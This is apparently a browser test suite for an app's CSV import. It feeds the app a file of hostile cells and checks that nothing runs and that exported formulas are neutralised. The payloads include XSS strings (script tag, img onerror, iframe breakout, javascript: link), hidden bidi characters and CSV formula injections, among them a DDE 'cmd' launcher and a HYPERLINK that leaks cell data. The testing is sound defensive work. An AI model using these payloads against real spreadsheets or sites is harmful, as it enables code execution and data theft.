// A list that means harm: markup, formulas, marks that turn or hide text, cells without an end. It is shown as text,
// nothing of it runs or asks for anything, nothing breaks the page's frame, and what is exported is no formula.

import assert from "node:assert/strict";
import { test } from "node:test";
import { inspect } from "./support/inspect.mjs";
import {
  BROWSERS,
  drop,
  exported,
  fill,
  pick,
  press,
  reads,
  seen,
  signIn,
  withStage,
} from "./support/stage.mjs";

const SCRIPT = '<script>globalThis.ran = "script"</script>';
const IMAGE = `<img src=x onerror="globalThis.ran='image'">`;
const FRAME = `"><iframe srcdoc="<script>parent.ran='frame'</script>"></iframe>`;
const TURNED = "\u202eReversed\u202c \u2066hidden\u2069 \u200bname\ufeff";
const LONG = "W".repeat(3_000);
const FORMULAS = [
  '=HYPERLINK("https://example.invalid/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\uff1d1+1",
];

const cell = (text) => `"${text.replaceAll('"', '""')}"`;
const line = (...cells) => `${cells.map(cell).join(",")}\r\n`;

/** Everybody fits everybody: the same interests. */
const INTERESTS = "battery storage; grid software; carbon accounting";
const FILE = [
  line("name", "email", "company", "title", "LinkedIn", SCRIPT, "interests"),
  ...[SCRIPT, IMAGE, FRAME, TURNED, `Long ${LONG}`, ...FORMULAS].map((text, at) =>
    line(text.slice(0, 200), `person.${at}@example.org`, text.slice(0, 200), text, "", text, INTERESTS),
  ),
  line("Link", "link@example.org", "A", "B", "javascript:globalThis.ran='link'", "", INTERESTS),
].join("");

/** The cells of a CSV, quotes resolved. */
function cellsOf(csv) {
  const cells = [];
  const form = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/gy;
  for (let found; (found = form.exec(csv)) && found.index < csv.length;)
    cells.push(found[1].replace(/^"([^]*)"$/, "$1").replaceAll('""', '"'));
  return cells;
}

const ran = (page) =>
  page.evaluate(() => [globalThis.ran ?? null, document.querySelectorAll("iframe, img, body script").length]);

for (const browser of BROWSERS) {
  test(`a file full of hostile cells is text, and no more, in ${browser}`, async () => {
    await withStage(browser, {}, async ({ visit }) => {
      const page = await visit("/");
      await signIn(page);
      await drop(page, `${IMAGE}.csv`, Buffer.from(FILE));
      await reads(page, "ready to import");
      await reads(page, IMAGE);
      await inspect(page, browser, "31-hostile-preview");
      await pick(page, "Left out 1");
      await reads(page, "LinkedIn");
      await fill(page, "#title", `${SCRIPT}${IMAGE}`);
      await fill(page, "#event-id", "hostile");
      await press(page, "Start");
      await reads(page, "Done in");
      await press(page, "See the matches");
      await seen(page, "table.pairs tbody tr[data-index]");
      await inspect(page, browser, "32-hostile-matches");
      await press(page, "Export CSV");
      const { text } = await exported(page);
      const cells = cellsOf(text.slice(1));
      assert.ok(cells.length > 100);
      for (const found of cells) assert.doesNotMatch(found, /^[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
      for (const formula of FORMULAS)
        assert.ok(
          cells.some((found) => found === `'${formula.trim()}`),
          formula,
        );
      await press(page, "<img src=x");
      await seen(page, "dialog[open]");
      await inspect(page, browser, "33-hostile-person");
      await page.keyboard.press("Escape");
      await page.waitForSelector("dialog", { hidden: true });
      await press(page, "Network");
      await seen(page, ".canvas :is(canvas, svg)");
      await inspect(page, browser, "34-hostile-network");
      await press(page, "Report");
      await reads(page, "rejected");
      await press(page, "All flows");
      await reads(page, "Recent flows");
      await inspect(page, browser, "35-hostile-flows");
      assert.deepEqual(await ran(page), [null, 0]);
    });
  });
}
